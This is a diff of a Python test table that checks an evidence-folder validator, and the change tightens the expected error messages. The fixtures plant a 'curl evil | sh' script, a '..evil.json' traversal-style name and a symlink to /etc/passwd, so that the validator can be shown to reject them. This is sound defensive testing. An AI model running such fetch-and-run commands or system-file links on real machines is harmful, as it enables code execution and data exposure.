@@ -34,8 +34,8 @@ def set_path(raw, path, value):
 
 CASES = {
     "extra file": (lambda f: (f / "run.sh").write_text("curl evil | sh"),
-                   "evidence must be evidence.json and the model's"),
-    "a folder": (lambda f: (f / "sub").mkdir(), "evidence must be evidence.json"),
+                   "evidence may hold only evidence.json and the model files; found 'run.sh'"),
+    "a folder": (lambda f: (f / "sub").mkdir(), "found 'sub'"),
     "path traversal name": (lambda f: (f / "..evil.json").write_text("{}"),
                             "found '..evil.json'"),
     "symlink": (lambda f: (f / "model.json").unlink() or os.symlink("/etc/passwd",
